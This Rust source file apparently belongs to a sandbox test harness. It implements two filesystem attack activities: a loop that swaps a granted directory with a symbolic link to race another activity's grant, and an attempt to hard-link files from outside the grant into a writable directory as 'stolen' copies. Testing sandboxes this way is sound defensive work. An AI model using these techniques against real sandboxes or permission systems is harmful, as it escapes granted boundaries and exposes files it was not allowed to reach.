//! Filesystem attacks: racing another activity's grant with a swapped
//! directory, and hard links out of a granted directory.

use chaos_guest_sdk::{ActivityError, JsonSchema, schemars};
use serde::Deserialize;
use std::time::{Duration, Instant};

/// Two names to swap in a loop.
#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Swap {
    /// The path another activity is granted (a directory).
    pub path: String,
    /// A symbolic link planted beside it (pointing elsewhere).
    pub link: String,
    /// Swapping stops once this file exists.
    pub stop: String,
    /// Swapping stops after this many milliseconds in any case.
    pub millis: u64,
}

/// Swaps `path` and `link` (a directory and a symbolic link leading out of
/// the grant) as fast as it can until `stop` exists, so that another
/// activity's grant of `path` sees the link whenever its path is
/// resolved again; leaves them as found. Returns the number of swaps.
pub fn swap_symlink(args: Swap) -> Result<u64, ActivityError> {
    let aside = format!("{}.aside", args.path);
    let rename = |from: &str, to: &str| std::fs::rename(from, to).map_err(|e| ActivityError::io(from, e));
    let started = Instant::now();
    let mut swaps = 0;
    while !std::path::Path::new(&args.stop).exists() && started.elapsed() < Duration::from_millis(args.millis) {
        rename(&args.path, &aside)?;
        rename(&args.link, &args.path)?;
        std::thread::yield_now();
        rename(&args.path, &args.link)?;
        rename(&aside, &args.path)?;
        swaps += 1;
    }
    Ok(swaps)
}

/// Hard links to try.
#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Links {
    /// Each existing path to link from (reaching out of the grant).
    pub sources: Vec<String>,
    /// The directory (granted for writing) to create the links in.
    pub dir: String,
}

/// Tries to hard-link each source into `dir`; returns, per source, `"linked"`
/// or the error.
pub fn hard_link(args: Links) -> Result<Vec<String>, ActivityError> {
    let outcomes = args.sources.iter().enumerate().map(|(i, source)| {
        match std::fs::hard_link(source, format!("{}/stolen-{i}", args.dir)) {
            Ok(()) => "linked".to_string(),
            Err(e) => format!("{source}: {e}"),
        }
    });
    Ok(outcomes.collect())
}
